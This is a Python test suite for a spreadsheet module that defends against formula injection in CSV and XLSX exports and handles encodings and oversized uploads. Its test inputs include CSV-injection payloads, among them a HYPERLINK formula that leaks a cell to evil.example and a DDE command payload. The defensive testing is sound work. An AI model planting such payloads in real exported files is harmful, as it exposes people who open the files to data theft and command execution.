"""The one spreadsheet writer and reader: formulas never written, never silently read; hostile files named."""

from __future__ import annotations

import codecs
import csv
import io
import time
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from app.errors import ValidationError
from app.tabular import (
    MAX_FILE_BYTES,
    Column,
    _to_sheet,
    append_row,
    csv_field,
    looks_like_formula,
    new_workbook,
    read_sheet,
    save_workbook,
    sheet_text,
    write_csv,
    write_xlsx,
)

INJECTIONS = ['=HYPERLINK("http://evil.example/?"&B2,"点我")', "=1+1", "+cmd|' /C calc'!A0", "@SUM(1,1)", "-2+3",
              "\t=1+1", "\r=1+1", "＝1+1"]
COLUMNS = (Column("name", "姓名", required=True), Column("unit", "单位/学校"), Column("category", "人员类别"))


def formula_cells(path: Path) -> list[str]:
    """Every cell a spreadsheet program would run: openpyxl's data type 'f' (also array formulas)."""
    wb = load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def test_written_text_is_never_a_formula(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "x.xlsx", ["姓名", "=header"], [[v, 1] for v in INJECTIONS], title="名单")
    assert formula_cells(path) == []
    ws = load_workbook(path).active
    assert [ws.cell(row=i + 2, column=1).value for i in range(len(INJECTIONS))] == [
        v.replace("\r", "\n") for v in INJECTIONS]  # XML reads a bare CR as a line break
    assert ws["A2"].quotePrefix and ws["B2"].value == 1 and ws["B2"].data_type == "n"


def test_appended_rows_keep_their_order_values_and_types(tmp_path: Path) -> None:
    """append_row makes the cells itself (no look-up of the new row): ragged rows stack in order, text is text."""
    wb = new_workbook("表")
    ws = wb.active
    append_row(ws, ["报名号", "总分", "备注"])
    append_row(ws, ["31001", Decimal("95.50"), None])
    append_row(ws, ["=1+1"])
    append_row(ws, [7, "", "@x"])
    path = save_workbook(wb, tmp_path / "r.xlsx")
    back = load_workbook(path).active
    assert [[c.value for c in row] for row in back.iter_rows()] == [
        ["报名号", "总分", "备注"], ["31001", 95.5, None], ["=1+1", None, None], [7, None, "@x"]]
    assert formula_cells(path) == [] and back["A3"].quotePrefix and back["A2"].number_format == "@"
    assert back["B2"].data_type == "n" and back["A4"].data_type == "n" and back["C4"].number_format == "@"


def test_characters_xml_cannot_hold_are_shown_not_fatal(tmp_path: Path) -> None:
    """Names stored by older versions with BEL/ESC/VT made openpyxl raise IllegalCharacterError."""
    path = write_xlsx(tmp_path / "old.xlsx", ["姓名", "单位"], [["钱\x07\x1b[31m红", "重庆\x0b学校\ud800"]])
    ws = load_workbook(path).active
    assert ws["A2"].value == "钱␇␛[31m红" and ws["B2"].value == "重庆␋学校\ufffd"
    assert sheet_text("tab\tand\nline") == "tab\tand\nline"


def test_csv_fields_follow_owasp(tmp_path: Path) -> None:
    for v in INJECTIONS:
        assert csv_field(v).startswith("'"), v
    for v in ("-3.5", "+2", "12", "张三", "a=b", "", None, 7):
        assert not csv_field(v).startswith("'"), v
    assert not looks_like_formula("-0.25") and looks_like_formula("-0.25+A1")
    out = io.StringIO()
    write_csv(out, ["姓名", "总分"], [["=1+1", "87.50"], ["张三", "-1"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["姓名", "总分"], ["'=1+1", "87.50"], ["张三", "-1"]]


def _roster_csv(text: str) -> str:
    return f"姓名,单位/学校,人员类别\n{text},重庆市轻工业学校,学生\n李四,重庆电子科技职业大学,教师\n"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le-bom", "utf-16-be-bom", "utf-32", "utf-16-le"])
def test_utf16_and_utf32_csv_are_read(tmp_path: Path, encoding: str) -> None:
    text = _roster_csv("张三")
    data = {
        "utf-16": text.encode("utf-16"),  # with the platform's BOM
        "utf-16-le-bom": codecs.BOM_UTF16_LE + text.encode("utf-16-le"),
        "utf-16-be-bom": codecs.BOM_UTF16_BE + text.encode("utf-16-be"),
        "utf-32": text.encode("utf-32"),
        "utf-16-le": text.replace("张三", "Zhang San").encode("utf-16-le"),  # Excel "Unicode text" without BOM
    }[encoding]
    (tmp_path / "r.csv").write_bytes(data)
    sheet = read_sheet(tmp_path / "r.csv", COLUMNS)
    assert [r.get("name") for r in sheet.rows] == ["Zhang San" if encoding == "utf-16-le" else "张三", "李四"]


def test_a_damaged_utf16_csv_names_the_encoding(tmp_path: Path) -> None:
    (tmp_path / "r.csv").write_bytes(codecs.BOM_UTF32_LE + _roster_csv("张三").encode("utf-32-le")[:-2])
    with pytest.raises(ValidationError, match="UTF-32"):
        read_sheet(tmp_path / "r.csv", COLUMNS)
    (tmp_path / "bin.csv").write_bytes(b"PK\x03\x04\x00\x00garbage\x00\xff\xfe\x00")
    with pytest.raises(ValidationError, match="不是文本 CSV"):
        read_sheet(tmp_path / "bin.csv", COLUMNS)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_huge_file_is_refused_before_reading(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"huge{suffix}"
    with path.open("wb") as fh:  # sparse: 100 MB on paper, nothing on disk
        fh.write(b"\xe5\xa7\x93\xe5\x90\x8d,\n")
        fh.truncate(100 * 1024 * 1024)
    started = time.perf_counter()
    with pytest.raises(ValidationError) as info:
        read_sheet(path, COLUMNS)
    assert time.perf_counter() - started < 5  # the 286 s of reading it whole are gone (bench-free sanity)
    assert "太大" in info.value.message and f"{MAX_FILE_BYTES // 1024 // 1024} MB" in info.value.message


def test_formula_cells_in_a_roster_get_their_own_message(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["序号", "姓名", "单位/学校", "人员类别"])
    ws.append(["=ROW()-1", "张三", "重庆市轻工业学校", "学生"])  # a formula in a column we do not read is fine
    ws.append([2, '=HYPERLINK("http://x","李四")', "=A1", "教师"])
    wb.save(tmp_path / "f.xlsx")
    with pytest.raises(ValidationError) as info:
        read_sheet(tmp_path / "f.xlsx", COLUMNS)
    assert "公式" in info.value.message and "姓名不能为空" not in str(info.value)
    where = {(p.row, p.column) for p in info.value.problems}
    assert where == {(3, "姓名"), (3, "单位/学校")}
    assert all("选择性粘贴" in p.message for p in info.value.problems)


def test_text_that_looks_like_a_formula_is_read_as_text(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "t.xlsx", ["姓名", "单位/学校", "人员类别"], [["=1+1", "@x", "学生"]])
    assert read_sheet(path, COLUMNS).rows[0].get("name") == "=1+1"


@given(st.lists(st.lists(st.text(alphabet=" \t\u3000ab王=1", max_size=4), max_size=5), max_size=6))
def test_csv_lines_read_the_short_way_as_cells_are_read(lines: list[list[str]]) -> None:
    """A CSV file's cells are all text: ``_to_sheet`` strips them without the per-cell look (issue 17) and gives
    what the general reading (formulas, numbers, short rows) gives."""
    raw: list[list[object]] = [["姓名", "单位/学校", "人员类别"], *lines]
    assert _to_sheet("x.csv", raw, COLUMNS, text_only=True) == _to_sheet("x.csv", raw, COLUMNS)
